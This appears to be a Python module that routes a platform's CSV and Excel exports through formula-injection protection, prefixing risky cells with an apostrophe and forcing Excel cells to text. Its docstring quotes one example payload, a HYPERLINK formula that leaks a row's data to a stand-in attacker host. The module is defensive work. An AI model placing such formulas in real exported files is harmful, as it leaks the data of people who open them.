"""The one place every CSV and Excel file the platform writes goes through.

Anyone can register a unit, so any name may reach a spreadsheet. A cell that starts with
``= + - @``, a tab or a carriage return is read by Excel, WPS and LibreOffice as a formula
(``=HYPERLINK("http://evil.example/?x="&B2, …)`` leaks the row it sits in). CSV cells that start
so get a leading apostrophe (OWASP "CSV injection"); Excel cells are always written as text, never
as formulas, and keep the exact value, so a re-import reads back what was exported.
"""

import csv
import io
import re
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def neutralise(value):
    """A CSV cell value that no spreadsheet evaluates; numbers stay numbers."""
    if value is None or isinstance(value, (int, float, Decimal)):
        return value
    value = str(value)  # a user or a lazy string is written as its text: check that text
    if not value.startswith(FORMULA_TRIGGERS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class CsvWriter:
    """``csv.writer`` whose every cell is neutralised first."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_bytes(headers, rows) -> bytes:
    """A whole CSV file, UTF-8 with a BOM so that Excel reads the Chinese."""
    buffer = io.StringIO()
    writer = CsvWriter(buffer)
    writer.writerow(headers)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")


def _cell(sheet, value):
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        # openpyxl turns any string starting with "=" into a formula; text stays text.
        cell.data_type = "s"
    return cell


def append_row(sheet, row) -> None:
    sheet.append([_cell(sheet, value) for value in row])


def new_workbook() -> Workbook:
    return Workbook(write_only=True)


def add_sheet(workbook: Workbook, title: str, headers, rows):
    sheet = workbook.create_sheet(title)
    append_row(sheet, headers)
    for row in rows:
        append_row(sheet, row)
    return sheet


def workbook_bytes(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
